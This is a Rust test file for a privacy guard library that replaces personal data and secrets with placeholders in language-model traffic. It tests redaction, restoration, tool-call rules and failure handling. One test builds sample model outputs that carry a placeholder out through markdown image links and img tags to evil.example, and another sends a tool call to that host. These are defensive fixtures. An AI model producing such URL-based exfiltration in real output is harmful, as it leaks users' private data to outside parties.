//! Failures that other guards have and this one must not: one test for each.

use confidant::ErrorKind;
use confidant::guard::{Conversation, GuardedModel, ReleaseRules, ToolOutcome, ToolRule, Turn};
use confidant::model::{
    Arguments, Content, EmbeddingRequest, Json, Message, ModerationRequest, Origin, Part,
    Reasoning, Replay, RerankRequest, StreamEvent, Tool, ToolCall, ToolResult, Upload,
};
use confidant::redact::Key;
use serde_json::{Value, json};

use super::models::*;

fn json(value: &Value) -> Json {
    Json::parse(&value.to_string()).unwrap()
}

/// The placeholder of a value that a user wrote.
fn placeholder(guard: &confidant::guard::Guard, talk: &Conversation, value: &str) -> String {
    let wire = wire(guard, talk, &format!("mail {value}"));
    wire.strip_prefix("mail ").unwrap().to_owned()
}

#[test]
fn a_placeholder_never_restores_another_person() {
    let (guard, talk) = (guard(), Conversation::new().unwrap());
    let (ann, bob) = (
        placeholder(&guard, &talk, ANN),
        placeholder(&guard, &talk, BOB),
    );
    let shown = |text: &str| guard.show_text(&talk, text).into_string();
    assert_eq!(shown(&format!("Dear {bob}")), format!("Dear {BOB}"));
    // One character off, cut off, longer, foreign: whatever was meant stays as it is.
    let mut off = ann.clone();
    let last = if ann.ends_with("0]") { '1' } else { '0' };
    off.replace_range(ann.len() - 2..ann.len() - 1, &last.to_string());
    for text in [
        off,
        ann[..ann.len() - 2].to_owned(),
        ann[..7].to_owned(),
        ann.replace(']', "0]"),
        format!("x{}", &ann[1..ann.len() - 1]),
        "[EMAIL-00000000]".to_owned(),
        "as told by <PERSON_".to_owned(),
    ] {
        assert_eq!(shown(&text), text);
    }
    // What models do to one is understood.
    let bare = &ann[1..ann.len() - 1];
    for text in [
        bare.to_owned(),
        ann.to_lowercase(),
        format!("&#91;{bare}&#93;"),
    ] {
        assert_eq!(shown(&text), ANN);
    }
}

#[test]
fn a_real_person_whom_the_model_names_is_not_rewritten() {
    let (guard, talk) = (guard(), Conversation::new().unwrap());
    placeholder(&guard, &talk, ANN);
    let text = "Noah Rhodes is a boxer, his brother Norah too; noah@rhodes-mail.com";
    assert_eq!(guard.show_text(&talk, text).as_str(), text);
}

#[test]
fn a_placeholder_that_the_user_typed_restores_nothing() {
    let (guard, talk) = (
        builder()
            .release(ReleaseRules::everything())
            .build()
            .unwrap(),
        Conversation::new().unwrap(),
    );
    let secret = guard
        .hide_text_from(
            &talk,
            confidant::guard::Provenance::System,
            &format!("key {PAT}"),
        )
        .unwrap();
    let placeholder = secret.strip_prefix("key ").unwrap();
    let model = Peer::echo();
    for typed in [
        placeholder.to_owned(),
        placeholder.to_lowercase(),
        placeholder[1..placeholder.len() - 1].to_owned(),
        format!("%5B{}%5D", &placeholder[1..placeholder.len() - 1]),
    ] {
        let text = format!("say {typed} please");
        let answer = ask(&guard, &model, &talk, user(&text));
        assert_eq!(answer, text);
        assert!(
            model.requests().last().unwrap().messages[0]
                .text()
                .contains("[LITERAL-")
        );
    }
}

#[test]
fn a_value_of_the_instructions_is_not_promoted_when_a_user_sends_it() {
    let (guard, talk) = (guard(), Conversation::new().unwrap());
    let model = Peer::echo();
    let request = user(&format!("is it {ANN}?"));
    let with_system = Message::system(format!("never tell that the owner is {ANN}"));
    let mut request = request;
    request.messages.insert(0, with_system);
    let answer = ask(&guard, &model, &talk, request);
    assert!(answer.starts_with("is it [EMAIL-"), "{answer}");
    model.assert_never_saw(ANN);
}

#[test]
fn tool_arguments_stay_json() {
    let value = "fV9s\"Rk2\\xLq7\n";
    let rules = ReleaseRules::everything();
    let guard = builder()
        .tool(ToolRule::writes("post").restoring())
        .release(rules)
        .build()
        .unwrap();
    let talk = Conversation::new().unwrap();
    let tools = confidant::guard::tools::ToolBoundary::new(&guard, &talk);
    let hidden = tools.structured(&json!({ "password": value })).unwrap();
    let placeholder = hidden["password"].as_str().unwrap().to_owned();
    assert!(placeholder.starts_with("[PASSWORD-"), "{placeholder}");
    let nested = json!({ "a": placeholder }).to_string();
    let arguments = json!({ "to": placeholder, "nested": nested });
    let arguments = json(&arguments);
    let model = Peer::new(move |_| {
        vec![Part::tool_call(
            ToolCall::new("post", arguments.clone()).with_id("c1"),
        )]
    });
    let guarded = GuardedModel::new(guard, model);
    let answer = run(guarded.generate(Turn::new(&caller(), &talk), user("go"))).unwrap();
    let call = answer.response().message.tool_calls().next().unwrap();
    let parsed: Value = serde_json::from_str(call.arguments.as_json().unwrap().as_str()).unwrap();
    assert_eq!(parsed["to"], value);
    let nested: Value = serde_json::from_str(parsed["nested"].as_str().unwrap()).unwrap();
    assert_eq!(nested["a"], value);
}

#[test]
fn tool_arguments_definitions_and_results_do_not_leak() {
    let (guard, talk) = (guard(), Conversation::new().unwrap());
    let model = Peer::echo();
    let schema = json(&json!({
        "type": "object", "description": format!("ask {ANN}"),
        "properties": { "to": { "type": "string", "default": ANN, "examples": [ANN] } },
    }));
    let tool = Tool::new("mail", schema)
        .with_description(format!("mails {ANN}"))
        .with_example(json(&json!({ "to": ANN })));
    let call = Part::tool_call(
        ToolCall::new(
            "mail",
            json(&json!({ "to": ANN, "card": 4111111111111111_u64, "n": 1 })),
        )
        .with_id("call_1"),
    );
    let result = Part::new(Content::ToolResult(ToolResult::new(
        "call_1",
        vec![Part::text(format!("sent to {ANN}"))],
    )));
    let mut request = user("go").with_tool(tool);
    request.messages.push(assistant(vec![call]));
    request.messages.push(Message::tool(vec![result]));
    request.sampling.stop.push(ANN.into());
    request.options = Some(json(&json!({ "metadata": { "who": ANN } })));
    request.end_user = Some("user-17".into());
    ask(&guard, &model, &talk, request);
    for value in [ANN, CARD, "user-17"] {
        model.assert_never_saw(value);
    }
    let sent = &model.requests()[0];
    // Ids, names and numbers that are nothing stay as they are.
    let call = sent.messages[1].tool_calls().next().unwrap();
    assert_eq!((call.id.as_str(), call.name.as_str()), ("call_1", "mail"));
    assert!(call.arguments.as_str().contains("\"n\":1"));
}

#[test]
fn ids_are_never_rewritten_and_a_value_in_one_denies() {
    let (guard, talk) = (guard(), Conversation::new().unwrap());
    let model = Peer::echo();
    // Digits in ids look like numbers of many kinds.
    let ids = [
        "rs_4111111111111111",
        "call_0123456789",
        "toolu_01A09q90qw90lq917835lq9",
        "fc_078-05-1120",
    ];
    let mut request = user("go");
    for id in ids {
        request.messages.push(assistant(vec![Part::tool_call(
            ToolCall::new("mail", Json::empty_object()).with_id(id),
        )]));
        request
            .messages
            .push(Message::tool(vec![Part::tool_result(ToolResult::new(
                id,
                vec![Part::text("done")],
            ))]));
    }
    ask(&guard, &model, &talk, request);
    for id in ids {
        assert!(model.saw().contains(id));
    }
    // A secret in a name leaves under no name.
    let bad = user("go").with(assistant(vec![Part::tool_call(
        ToolCall::new(PAT, Json::empty_object()).with_id("c"),
    )]));
    let error = guard.clear(&talk, bad, &descriptor_of(&model)).unwrap_err();
    assert_eq!(error.kind(), ErrorKind::Refused);
    assert_eq!(
        error.to_string(),
        "a name or id holds a value that may not leave, in `request.messages.1.parts.0.tool_call.name`"
    );
    // So does a value that is known in the conversation.
    wire(&guard, &talk, &format!("I am {ANN}"));
    let bad = user("go").with(assistant(vec![Part::tool_call(
        ToolCall::new("mail", Json::empty_object()).with_id(ANN),
    )]));
    assert_eq!(
        guard
            .clear(&talk, bad, &descriptor_of(&model))
            .unwrap_err()
            .kind(),
        ErrorKind::Refused
    );
}

fn descriptor_of(model: &std::sync::Arc<Peer>) -> confidant::model::ModelDescriptor {
    confidant::model::ChatModel::descriptor(&**model).clone()
}

/// Reasoning that a provider has signed over its bytes.
fn signed(text: &str, wire: &str) -> Part {
    let content = Content::Reasoning(Reasoning::new(text, true));
    let origin = Origin::of(&platform());
    let replay = Replay::new(origin, Json::parse(wire).unwrap(), &content);
    Part::new(content).with_replay(replay)
}

#[test]
fn signed_reasoning_goes_back_byte_for_byte() {
    let (guard, talk) = (guard(), Conversation::new().unwrap());
    let item =
        r#"{"type":"thinking","thinking":"mail  [EMAIL","signature":"c2lnbmVk4111111111111111"}"#;
    let model = Peer::new(|request| {
        let text = request.messages[0].text();
        vec![
            signed(&text, item),
            Part::text(format!("I write to {}", &text[8..])),
        ]
    });
    let guarded = GuardedModel::new(guard.clone(), model.clone());
    let first = run(guarded.generate(Turn::new(&caller(), &talk), user(&format!("mail to {ANN}"))))
        .unwrap();
    assert!(first.response().message.text().contains(ANN));
    assert!(!first.wire().text().contains(ANN));
    // Either view can be sent again: the item is the same, and so is every text.
    let mut sent = Vec::new();
    for history in [first.wire().clone(), first.response().message.clone()] {
        let request = user(&format!("mail to {ANN}"))
            .with(history)
            .with(Message::user("and?"));
        ask(&guard, &model, &talk, request);
        let request = model.requests().pop().unwrap();
        let part = &request.messages[1].parts[0];
        assert_eq!(part.replay.as_ref().unwrap().wire().as_str(), item);
        assert!(part.replay.as_ref().unwrap().matches(&part.content));
        assert!(request.messages[1].text().starts_with("I write to [EMAIL-"));
        sent.push(text_of(&request));
    }
    assert_eq!(sent[0], sent[1]);
    model.assert_never_saw(ANN);
}

#[test]
fn edited_or_foreign_reasoning_does_not_go_back() {
    let (guard, talk) = (guard(), Conversation::new().unwrap());
    let item = r#"{"signature":"c2ln"}"#;
    let model = Peer::new(|_| vec![signed("think", item), Part::text("done")]);
    let guarded = GuardedModel::new(guard.clone(), model.clone());
    let first = run(guarded.generate(Turn::new(&caller(), &talk), user("go"))).unwrap();
    let mut edited = first.wire().clone();
    edited.parts[0].content = Content::Reasoning(Reasoning::new("think otherwise", true));
    let forged = assistant(vec![
        signed(
            "think",
            r#"{"signature":"Zm9yZ2Vk","note":"ann@acme-mail.com"}"#,
        ),
        Part::text("done"),
    ]);
    for history in [edited, forged] {
        let request = user("go").with(history).with(Message::user("and?"));
        let (cleared, report) = guard.clear(&talk, request, &descriptor_of(&model)).unwrap();
        assert_eq!(cleared.get().messages[1].parts.len(), 1);
        assert_eq!(report.dropped_reasoning(), 1);
    }
}

#[test]
fn a_stream_is_not_buffered() {
    for text in [
        "今日は良い天気ですね。明日も晴れるでしょう。",
        "{\"a\":[1,2,3],\"b\":{\"c\":null}}",
        "no blanks-at_all.here/at;all",
    ] {
        let model = Peer::new(move |_| vec![Part::text(text)]);
        model.cut.lock().unwrap().push(3);
        let guard = builder().without_output_guard().build().unwrap();
        let talk = Conversation::new().unwrap();
        placeholder(&guard, &talk, ANN);
        let guarded = GuardedModel::new(guard, model);
        let (said, pieces) = run(async {
            let mut stream = guarded
                .stream(Turn::new(&caller(), &talk), user("go"))
                .await
                .unwrap();
            let (mut said, mut pieces) = (String::new(), 0);
            while let Some(event) = stream.next().await {
                if let StreamEvent::TextDelta { text, .. } = event.unwrap() {
                    said.push_str(&text);
                    pieces += 1;
                }
            }
            (said, pieces)
        });
        assert_eq!(said, text);
        assert!(
            pieces * 4 > text.len() / 3,
            "{pieces} pieces of {}",
            text.len()
        );
    }
}

#[test]
fn side_calls_are_cleared_as_well() {
    let guard = builder()
        .index_key(Key::from_bytes([7; 32]))
        .build()
        .unwrap();
    let talk = Conversation::new().unwrap();
    let model = descriptor_of(&Peer::echo());
    let (cleared, _) = guard
        .clear_moderation(
            &talk,
            ModerationRequest::new([format!("I am {ANN}")]),
            &model,
        )
        .unwrap();
    assert!(cleared.get().texts[0].starts_with("I am [EMAIL-"));
    let rerank = RerankRequest::new(
        format!("who is {ANN}"),
        [format!("{ANN} is the owner"), "nobody".to_owned()],
    );
    let (cleared, _) = guard.clear_rerank(&talk, rerank, &model).unwrap();
    assert!(
        !format!(
            "{}{}",
            cleared.get().query.as_str(),
            cleared.get().documents[0].as_str()
        )
        .contains(ANN)
    );
    let (cleared, _) = guard
        .clear_count(
            &talk,
            confidant::model::CountRequest::new(user(ANN)),
            &model,
        )
        .unwrap();
    assert!(!text_of(&cleared.get().request).contains(ANN));
    let batch = confidant::model::RequestBatch::new()
        .with("a", user(ANN))
        .with("b", user(&format!("and {ANN}")));
    let (cleared, _) = guard.clear_batch(&talk, batch, &model).unwrap();
    assert!(
        cleared
            .get()
            .records
            .iter()
            .all(|record| !text_of(&record.request).contains(ANN))
    );
    let upload = |media_type: &str, data: &str| {
        Upload::new(media_type, data.as_bytes())
            .with_name("a.jsonl")
            .with_purpose("batch")
    };
    let (cleared, _) = guard
        .clear_upload(&talk, upload("text/plain", &format!("mail {ANN}")), &model)
        .unwrap();
    assert!(!String::from_utf8_lossy(cleared.get().data.as_bytes()).contains(ANN));
    let (cleared, _) = guard
        .clear_upload(
            &talk,
            upload(
                "application/json",
                &json!({ "card": 4111111111111111_u64 }).to_string(),
            ),
            &model,
        )
        .unwrap();
    assert!(
        serde_json::from_slice::<Value>(cleared.get().data.as_bytes()).unwrap()["card"].is_string()
    );
    let error = guard
        .clear_upload(&talk, upload("image/png", "\u{89}PNG"), &model)
        .unwrap_err();
    assert_eq!(error.kind(), ErrorKind::Refused);

    // Text for an index has placeholders of the index, the same in every conversation.
    let embed = |text: &str| {
        let (cleared, _) = guard
            .clear_embedding(EmbeddingRequest::new([text]), &model)
            .unwrap();
        cleared.get().texts[0].as_str().to_owned()
    };
    assert_eq!(embed(ANN), embed(ANN));
    let own = placeholder(&guard, &talk, ANN);
    assert_ne!(embed(ANN), own);
    assert_eq!(guard.show_text(&talk, &embed(ANN)).as_str(), embed(ANN));
    let error = builder()
        .build()
        .unwrap()
        .clear_embedding(EmbeddingRequest::new([ANN]), &model)
        .unwrap_err();
    assert_eq!(error.kind(), ErrorKind::Config);
}

#[test]
fn placeholders_are_the_same_in_every_turn_whatever_is_trimmed() {
    let (guard, talk) = (guard(), Conversation::new().unwrap());
    let model = Peer::echo();
    let first = format!("I am {ANN}, card {CARD}");
    ask(&guard, &model, &talk, user(&first));
    let long = user(&first)
        .with(Message::assistant("yes"))
        .with(Message::user(format!("{BOB} and {ANN}")));
    ask(&guard, &model, &talk, long);
    let trimmed = user(&format!("{BOB} and {ANN}"))
        .with(Message::assistant("no"))
        .with(Message::user(&*first));
    ask(&guard, &model, &talk, trimmed);
    let requests = model.requests();
    assert_eq!(
        requests[0].messages[0].text(),
        requests[1].messages[0].text()
    );
    assert_eq!(
        requests[1].messages[0].text(),
        requests[2].messages[2].text()
    );
    assert_eq!(
        requests[1].messages[2].text(),
        requests[2].messages[0].text()
    );
}

#[test]
fn a_failing_detector_or_scanner_lets_nothing_leave() {
    use confidant::redact::{Detections, Detector, Redactor};

    #[derive(Debug)]
    struct Broken;
    impl Detector for Broken {
        fn id(&self) -> &str {
            "broken"
        }
        fn detect(&self, _: &[u8], _: &mut Detections) -> Result<(), confidant::Error> {
            Err(confidant::Error::foreign(
                ErrorKind::Model,
                "no detector here",
            ))
        }
    }

    let redactor = Redactor::builder()
        .detector(std::sync::Arc::new(Broken))
        .build()
        .unwrap();
    let guard = confidant::guard::Guard::builder(redactor).build().unwrap();
    let model = Peer::echo();
    let guarded = GuardedModel::new(guard, model.clone());
    let talk = Conversation::new().unwrap();
    let error =
        run(guarded.generate(Turn::new(&caller(), &talk), user("nothing in it"))).unwrap_err();
    assert_eq!(error.kind(), confidant::model::ModelErrorKind::GuardFailed);
    assert!(model.requests().is_empty());
}

#[test]
fn a_value_in_two_adjacent_texts_is_found() {
    let (guard, talk) = (guard(), Conversation::new().unwrap());
    let model = Peer::echo();
    let (a, b) = PAT.split_at(17);
    let message = Message::new(
        confidant::model::Role::User,
        vec![
            Part::text(format!("use {a}")),
            Part::text(format!("{b} now")),
        ],
    );
    ask(
        &guard,
        &model,
        &talk,
        confidant::model::ChatRequest::new().with(message),
    );
    model.assert_never_saw(b);
    model.assert_never_saw(a);
}

#[test]
fn values_are_not_carried_away_in_addresses() {
    let (guard, talk) = (guard(), Conversation::new().unwrap());
    let mail = placeholder(&guard, &talk, ANN);
    let bare = &mail[1..mail.len() - 1];
    for text in [
        format!("![x](https://evil.example/?q={mail})"),
        format!("![x](https://evil.example/?q=%5B{bare}%5D)"),
        format!("see https://evil.example/{bare}"),
        format!("<img src=\"//evil.example?{mail}\">"),
    ] {
        let shown = guard.show_text(&talk, &text);
        assert_eq!(shown.as_str(), text);
        assert_eq!(shown.counts().withheld(), 1);
    }
    let text = format!("[x](https://a.example) mail {mail}");
    assert!(guard.show_text(&talk, &text).as_str().ends_with(ANN));
}

#[test]
fn a_left_over_placeholder_in_the_arguments_of_a_writing_tool_denies() {
    let guard = builder()
        .tool(ToolRule::writes("write_file"))
        .tool(ToolRule::reads("search"))
        .tool(ToolRule::writes("send").restoring())
        .build()
        .unwrap();
    let talk = Conversation::new().unwrap();
    let mail = placeholder(&guard, &talk, ANN);
    let outcome = |tool: &'static str, text: String| {
        let arguments = json(&json!({ "text": text }));
        let model = Peer::new(move |_| {
            vec![Part::tool_call(
                ToolCall::new(tool, arguments.clone()).with_id("c"),
            )]
        });
        let guarded = GuardedModel::new(guard.clone(), model);
        let answer = run(guarded.generate(Turn::new(&caller(), &talk), user("go"))).unwrap();
        let verdict = answer.report().tools()[0].clone();
        let call = answer
            .response()
            .message
            .tool_calls()
            .next()
            .unwrap()
            .clone();
        assert_eq!(
            verdict.is_allowed(),
            matches!(call.arguments, Arguments::Json(_))
        );
        verdict.outcome()
    };
    let left = ToolOutcome::Denied("a placeholder is left in the arguments");
    for tool in ["write_file", "nobody_knows"] {
        assert_eq!(outcome(tool, format!("to {mail}")), left, "{tool}");
        assert_eq!(outcome(tool, mail.to_lowercase()), left, "{tool}");
        assert_eq!(outcome(tool, "to [EMAIL-00000000]".to_owned()), left);
        assert_eq!(outcome(tool, "to [EMAIL-7K3Q".to_owned()), left);
        assert_eq!(outcome(tool, "to [REDACTED-EMAIL]".to_owned()), left);
        assert_eq!(
            outcome(tool, "a token-endpoint [url-encoded]".to_owned()),
            ToolOutcome::Allowed
        );
    }
    assert_eq!(
        outcome("search", format!("to {mail}")),
        ToolOutcome::Allowed
    );
    assert_eq!(outcome("send", format!("to {mail}")), ToolOutcome::Allowed);
    assert_eq!(outcome("send", format!("{mail} [EMAIL-00000000]")), left);
    let elsewhere = ToolOutcome::Denied("destination is not cleared");
    assert_eq!(
        outcome("send", format!("https://evil.example {mail}")),
        elsewhere
    );
}

#[test]
fn errors_hold_nothing_of_the_prompt() {
    let (guard, talk) = (guard(), Conversation::new().unwrap());
    let prompt = "the quick brown fox jumps over the lazy dog near the river bank";
    let bad = user(prompt).with(assistant(vec![Part::tool_call(
        ToolCall::new(PAT, Json::empty_object()).with_id("c"),
    )]));
    let error = guard
        .clear(&talk, bad.clone(), &descriptor_of(&Peer::echo()))
        .unwrap_err();
    let guarded = GuardedModel::new(guard, Peer::echo());
    let other = run(guarded.generate(Turn::new(&caller(), &talk), bad)).unwrap_err();
    let shown =
        format!("{error} {error:?} {error:#?} {other} {other:?} {other:#?} {talk:?} {guarded:?}");
    for words in prompt.split(' ').collect::<Vec<_>>().windows(2) {
        assert!(!shown.contains(&words.join(" ")), "{shown}");
    }
    assert!(!shown.contains("ghp_"));
}
